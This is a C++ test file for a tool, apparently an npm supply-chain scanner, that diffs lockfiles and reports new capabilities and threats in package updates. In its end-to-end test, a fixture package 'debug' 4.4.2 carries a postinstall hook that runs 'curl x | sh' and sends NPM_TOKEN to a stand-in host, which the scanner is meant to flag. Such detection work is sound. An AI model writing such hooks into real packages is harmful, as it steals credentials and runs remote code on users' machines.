#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>
#include <string>

#include "analyzer/diff/diff_model.h"
#include "parsers/formats.h"
#include "tests/parsers/lockfile_testing.h"
#include "tests/support/json_schema.h"
#include "tests/support/pack.h"
#include "tests/support/paths.h"
#include "tests/support/process.h"
#include "tests/support/registry_server.h"

using namespace tarsier;

namespace {

PackageRef ref(std::string name, std::string version, std::string integrity = "") {
  PackageRef r;
  r.name = std::move(name);
  r.version = std::move(version);
  r.integrity = std::move(integrity);
  return r;
}

std::string lockfile(const std::vector<std::tuple<std::string, std::string, std::string>>& pkgs,
                     const std::string& registry) {
  nlohmann::json packages = {{"", {{"name", "app"}, {"version", "1.0.0"}}}};
  for (const auto& [name, version, integrity] : pkgs) {
    packages["node_modules/" + name] = {
        {"version", version},
        {"resolved", registry + name + "/-/" + name + "-" + version + ".tgz"},
        {"integrity", integrity}};
  }
  nlohmann::json doc = {{"name", "app"},
                        {"version", "1.0.0"},
                        {"lockfileVersion", 3},
                        {"requires", true},
                        {"packages", packages}};
  return doc.dump(2) + "\n";
}

std::vector<std::string> schema_errors(const std::string& schema_path, const std::string& text) {
  std::string error;
  auto schema = test::JsonSchema::load(test::source_path(schema_path), &error);
  INFO(error);
  REQUIRE(schema.has_value());
  return schema->validate_text(text);
}

}  // namespace

TEST_CASE("lockfile diff pairs versions by name", "[diff]") {
  auto d = diff_lockfiles({ref("a", "1.0.0", "sha512-A"), ref("b", "2.0.0"), ref("c", "1.0.0"),
                           ref("d", "1.0.0", "sha512-D1"), ref("e", "1.0.0"), ref("e", "2.0.0")},
                          {ref("a", "1.0.0", "sha512-A"), ref("b", "2.1.0"), ref("new", "0.1.0"),
                           ref("d", "1.0.0", "sha512-D2"), ref("e", "1.0.0"), ref("e", "3.0.0")});
  REQUIRE(d.unchanged == 2);
  std::vector<std::string> seen;
  for (const auto& c : d.changes) {
    std::string from = c.base ? c.base->name + "@" + c.base->version : "-";
    std::string to = c.head ? c.head->name + "@" + c.head->version : "-";
    seen.push_back(std::string(to_string(c.kind)) + " " + from + " " + to);
  }
  REQUIRE(seen == std::vector<std::string>{"changed b@2.0.0 b@2.1.0", "removed c@1.0.0 -",
                                           "changed d@1.0.0 d@1.0.0", "changed e@2.0.0 e@3.0.0",
                                           "added - new@0.1.0"});
}

namespace {

std::vector<std::string> change_lines(const LockfileDiff& d) {
  std::vector<std::string> seen;
  for (const auto& c : d.changes) {
    std::string from = c.base ? c.base->name + "@" + c.base->version : "-";
    std::string to = c.head ? c.head->name + "@" + c.head->version : "-";
    seen.push_back(std::string(to_string(c.kind)) + " " + from + " " + to);
  }
  return seen;
}

}  // namespace

TEST_CASE("lockfile diff pairs by place in the tree: a version moved down is an update, not an add",
          "[diff]") {
  // base: node_modules/ms 2.1.3. head: node_modules/ms 2.1.2, and 2.1.3 nested under debug.
  auto read = [](const std::string& side) {
    auto result =
        test::parse_fixture(package_lock_parser(), "npm/diff-moved/" + side + "/package-lock.json");
    REQUIRE(result.errors.empty());
    return result.packages;
  };
  auto d = diff_lockfiles(read("base"), read("head"));
  CHECK(change_lines(d) ==
        std::vector<std::string>{"changed debug@4.3.4 debug@4.3.5", "changed ms@2.1.3 ms@2.1.2"});
  CHECK(d.unchanged == 1);  // ms 2.1.3, now nested, is the same archive as before
}

TEST_CASE("lockfile diff pairs the remaining versions by the closest one", "[diff]") {
  auto d = diff_lockfiles({ref("lodash", "3.10.1"), ref("lodash", "4.17.20")},
                          {ref("lodash", "4.17.21"), ref("lodash", "3.10.2")});
  CHECK(change_lines(d) == std::vector<std::string>{"changed lodash@3.10.1 lodash@3.10.2",
                                                    "changed lodash@4.17.20 lodash@4.17.21"});
  // One version left on each side with nothing in common still pairs as an update.
  d = diff_lockfiles({ref("x", "1.0.0"), ref("x", "5.2.0")}, {ref("x", "5.3.0")});
  CHECK(change_lines(d) ==
        std::vector<std::string>{"changed x@5.2.0 x@5.3.0", "removed x@1.0.0 -"});
}

TEST_CASE("a delta reports what the new version adds", "[diff]") {
  PackageResult before, after;
  before.ref = ref("debug", "4.4.1");
  after.ref = ref("debug", "4.4.2");
  before.capabilities = {"env"};
  after.capabilities = {"env", "network", "obfuscation"};
  after.threats = {"exfiltration"};
  Finding env;
  env.rule = "js-process-env";
  env.capability = "env";
  env.severity = Risk::low;
  env.message = "reads env";
  env.file = "src/node.js";
  env.line = 10;
  env.snippet = "process.env.DEBUG";
  before.findings = {env};
  Finding moved = env;
  moved.line = 14;  // same finding, shifted lines
  Finding net;
  net.rule = "js-fetch-hook";
  net.capability = "network";
  net.severity = Risk::critical;
  net.message = "hooks fetch";
  net.file = "src/hook.js";
  net.line = 1;
  net.snippet = "globalThis.fetch = ...";
  after.findings = {moved, net};
  before.risk = Risk::low;
  after.risk = Risk::critical;
  before.stats.files = 4;
  after.stats.files = 5;
  LockfileChange change{ChangeKind::changed, before.ref, after.ref};
  PackageDelta d = compute_delta(change, &before, &after);
  REQUIRE(d.capabilities_gained == std::vector<std::string>{"network", "obfuscation"});
  REQUIRE(d.capabilities_lost.empty());
  REQUIRE(d.threats_new == std::vector<std::string>{"exfiltration"});
  REQUIRE(d.new_findings.size() == 1);
  REQUIRE(d.new_findings[0].rule == "js-fetch-hook");
  REQUIRE(d.new_files_with_findings == std::vector<std::string>{"src/hook.js"});
  // One behaviour on its own counts as at most medium (the package risk formula), whatever
  // its severity; the threat it takes part in is what raises a package higher.
  REQUIRE(d.added_risk == Risk::medium);
  REQUIRE(d.files_after - d.files_before == 1);

  SECTION("a new threat finding adds at its own severity") {
    Finding threat = net;
    threat.rule = "threat-exfiltration";
    threat.capability = "exfiltration";
    after.findings.push_back(threat);
    REQUIRE(compute_delta(change, &before, &after).added_risk == Risk::critical);
  }

  SECTION("a suppressed new finding adds nothing") {
    after.findings[1].suppressed = true;
    after.risk = Risk::critical;
    after.threats.clear();
    PackageDelta s = compute_delta(change, &before, &after);
    REQUIRE(s.added_risk == Risk::none);
  }
}

TEST_CASE("tarsier diff against the local registry", "[diff][e2e]") {
  test::RegistryServer registry;
  std::string base = registry.base_url();
  std::string i_debug1 =
      registry.publish("debug", "4.4.1",
                       test::pack_npm_files({{"package.json", R"({"name":"debug"})"},
                                             {"index.js", "module.exports = () => 1;\n"}}));
  std::string i_debug2 = registry.publish(
      "debug", "4.4.2",
      test::pack_npm_files(
          {{"package.json", R"({"name":"debug","scripts":{"postinstall":"node hook.js"}})"},
           {"index.js", "module.exports = () => 1;\n"},
           {"hook.js",
            "const cp = require('child_process');\ncp.exec('curl x | sh');\n"
            "require('https').get('https://example.invalid/' + process.env.NPM_TOKEN);\n"}}));
  std::string i_left =
      registry.publish("left-pad", "1.3.0",
                       test::pack_npm_files({{"package.json", R"({"name":"left-pad"})"},
                                             {"index.js", "module.exports = s => s;\n"}}));
  std::string i_gone = registry.publish(
      "gone", "1.0.0", test::pack_npm_files({{"package.json", R"({"name":"gone"})"}}));
  std::string i_new =
      registry.publish("fresh", "0.1.0",
                       test::pack_npm_files({{"package.json", R"({"name":"fresh"})"},
                                             {"index.js", "exports.x = 1;\n"}}));

  test::TempDir dir;
  std::string base_lock = dir.write(
      "base/package-lock.json",
      lockfile(
          {{"debug", "4.4.1", i_debug1}, {"left-pad", "1.3.0", i_left}, {"gone", "1.0.0", i_gone}},
          base));
  std::string head_lock = dir.write(
      "head/package-lock.json",
      lockfile(
          {{"debug", "4.4.2", i_debug2}, {"left-pad", "1.3.0", i_left}, {"fresh", "0.1.0", i_new}},
          base));
  std::map<std::string, std::optional<std::string>> env = {
      {"XDG_DATA_HOME", dir.path() + "/data"},
      {"XDG_CACHE_HOME", dir.path() + "/cache"},
      {"HOME", dir.path()}};
  std::vector<std::string> argv = {test::tarsier_binary(),
                                   "diff",
                                   "--registry",
                                   base,
                                   "--format",
                                   "json",
                                   "-q",
                                   base_lock,
                                   head_lock,
                                   "--sarif-output",
                                   dir.path() + "/out.sarif",
                                   "--markdown-output",
                                   dir.path() + "/out.md"};
  auto run = test::run_process(argv, env);
  INFO(run.err);
  REQUIRE(run.exit_code == 1);
  REQUIRE(schema_errors("analyzer/diff/diff-report.schema.json", run.out).empty());
  auto doc = nlohmann::json::parse(run.out);
  REQUIRE(doc["summary"]["added"] == 1);
  REQUIRE(doc["summary"]["changed"] == 1);
  REQUIRE(doc["summary"]["removed"] == 1);
  REQUIRE(doc["summary"]["unchanged"] == 1);
  const auto& first = doc["packages"][0];
  REQUIRE(first["name"] == "debug");
  REQUIRE(first["change"] == "changed");
  REQUIRE(first["from_version"] == "4.4.1");
  REQUIRE(first["to_version"] == "4.4.2");
  REQUIRE_FALSE(first["capabilities_gained"].empty());
  REQUIRE(first["new_install_scripts"].get<int>() >= 1);
  REQUIRE(doc["packages"].back()["change"] == "removed");
  // Unchanged and removed packages are never downloaded.
  REQUIRE(registry.request_count(test::tarball_path("left-pad", "1.3.0")) == 0);
  REQUIRE(registry.request_count(test::tarball_path("gone", "1.0.0")) == 0);

  std::string sarif = test::read_text_file(dir.path() + "/out.sarif");
  REQUIRE(schema_errors("analyzer/report/sarif-2.1.0-subset.schema.json", sarif).empty());
  auto log = nlohmann::json::parse(sarif);
  REQUIRE_FALSE(log["runs"][0]["results"].empty());
  for (const auto& result : log["runs"][0]["results"]) {
    REQUIRE(result["locations"][0]["physicalLocation"]["region"]["startLine"].get<int>() > 1);
  }
  std::string markdown = test::read_text_file(dir.path() + "/out.md");
  REQUIRE(markdown.rfind("<!-- tarsier-diff-report -->", 0) == 0);
  REQUIRE(markdown.find("<code>debug</code>") != std::string::npos);
  REQUIRE(markdown.find("4.4.1 -&gt; 4.4.2") != std::string::npos);

  SECTION("a second run reads both versions from the risk database") {
    auto again = test::run_process(argv, env);
    REQUIRE(again.exit_code == 1);
    auto doc2 = nlohmann::json::parse(again.out);
    REQUIRE(doc2["packages"][0]["cached"] == true);
  }
}
